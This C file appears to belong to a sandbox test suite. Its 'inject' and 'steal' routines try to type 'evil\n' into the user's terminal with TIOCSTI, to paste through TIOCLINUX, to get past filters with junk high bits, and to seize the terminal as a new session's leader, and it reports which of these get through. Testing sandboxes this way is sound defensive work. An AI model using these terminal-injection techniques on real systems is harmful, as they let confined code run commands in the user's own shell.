/* Types into the terminal of the user who started it. */
#include "attack.h"

#include <sys/ioctl.h>
#include <termios.h>

static void push(const char *where, int fd) {
  char name[128];
  for (const char *byte = "evil\n"; *byte; byte++)
    if (ioctl(fd, TIOCSTI, byte) == 0) {
      snprintf(name, sizeof name, "push a byte into %s", where);
      got_through(name, "");
      return;
    }
  snprintf(name, sizeof name, "push a byte into %s", where);
  denied(name, strerror(errno));
  char paste[] = {3, 0, 0, 0};
  snprintf(name, sizeof name, "paste into %s", where);
  TRY(name, ioctl(fd, 0x541c /* TIOCLINUX */, paste));
  snprintf(name, sizeof name, "push with junk in the high bits into %s", where);
  TRY(name, syscall(SYS_ioctl, fd, TIOCSTI | 0xdeadbeefL << 32, "x"));
}

static void inject(char **arguments) {
  (void)arguments;
  push("standard input", 0);
  push("standard output", 1);
  push("standard error", 2);
  push("/dev/tty", open("/dev/tty", O_RDWR));
}

/* As the leader of a session of its own, which may take the terminal. */
static void steal(char **arguments) {
  (void)arguments;
  int child = fork();
  if (child == 0) {
    setsid();
    TRY("make the terminal its own", ioctl(0, TIOCSCTTY, 1));
    push("standard input, as a session's leader", 0);
    push("/dev/tty, as a session's leader", open("/dev/tty", O_RDWR));
    _exit(0);
  }
  waitpid(child, NULL, 0);
}

static const struct attack attacks[] = {{"inject", inject}, {"steal", steal}};
ATTACK_MAIN(attacks)
